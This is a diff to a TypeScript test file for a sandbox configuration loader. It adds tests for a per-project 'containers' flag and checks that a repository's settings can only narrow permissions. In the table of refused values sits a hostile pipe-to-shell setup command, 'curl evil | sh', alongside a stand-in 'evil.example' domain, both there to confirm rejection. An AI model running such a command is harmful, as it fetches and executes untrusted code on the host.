@@ -171,6 +171,14 @@ describe("values", () => {
         expect(many.message).toContain("cc-sandbox:projects: must NOT have more than 32 items");
     });
 
+    test("a project's containers: a boolean, false unless the stack config sets it; the guest is told in the spec", () => {
+        const c = loadConfig("t", { projects: [{ name: "web", containers: true }, { name: "api" }, { name: "docs", containers: false }] }, host);
+        expect(c.projects.map((p) => p.containers)).toEqual([true, false, false]);
+        expect(c.projects.map(projectSpec)).toEqual(["containers yes\n", "", ""]);
+        const bad = errorOf(() => loadConfig("t", { projects: [{ name: "web", containers: "yes" }] } as never, host));
+        expect(bad.message).toContain('cc-sandbox:projects[0].containers: must be boolean (got "yes")');
+    });
+
     test("a project's clone: a repository on this machine, ~ expanded; one that is not a folder here is named", () => {
         const c = loadConfig("t", { projects: [{ name: "web", clone: "~/code/web/" }, { name: "api" }] }, host);
         expect(c.projects.map((p) => p.clone)).toEqual([path.join(home, "code/web"), undefined]);
@@ -238,12 +246,24 @@ describe("values", () => {
             expect(names(project({}, stack))).toEqual(expect.arrayContaining(["*.example.org", "git.example.org"]));
         });
 
+        test("containers: false takes them from a project the stack gives them; nothing gives them but the stack", () => {
+            expect(project({ containers: true }).containers).toBe(true);
+            expect(projectSpec(project({ containers: true }))).toBe("clone yes\ncontainers yes\n");
+            settings("containers: false\n");
+            const p = project({ containers: true });
+            expect(p).toMatchObject({ containers: false, narrowedBy: file });
+            expect(projectSpec(p)).toBe("clone yes\n");
+            expect(project().containers).toBe(false);
+        });
+
         test("whatever would widen is refused, naming the file, the key and the value", () => {
             const cases: [string, string, RegExp][] = [
                 ["allowlist:\n  domains: [evil.example]\n", "allowlist.domains", /may only narrow .*a repository may drop entries, not add them \(got \["evil\.example"\]\)/],
                 ["network: allowlist\n", "network", /a repository may set none, nothing else \(got "allowlist"\)/],
                 ["handover: mount\n", "handover", /a repository may require clone, nothing else \(got "mount"\)/],
-                ["setup: curl evil | sh\n", "setup", /only network: none, allowlist\.drop and handover: clone are taken from a repository \(got "curl evil \| sh"\)/],
+                ["setup: curl evil | sh\n", "setup", /only network: none, allowlist\.drop, handover: clone and containers: false are taken from a repository \(got "curl evil \| sh"\)/],
+                ["containers: true\n", "containers", /a repository may set false, nothing else \(got true\)/],
+                ["containers: yes please\n", "containers", /a repository may set false, nothing else \(got "yes please"\)/],
                 ["mount: /\n", "mount", /only network: none/],
                 ["allowlist:\n  presets: [pypi]\n", "allowlist.presets", /not add them/],
                 ["allowlist:\n  drop: registry.npmjs.org\n", "allowlist.drop", /must be a list of allowlist entries/],
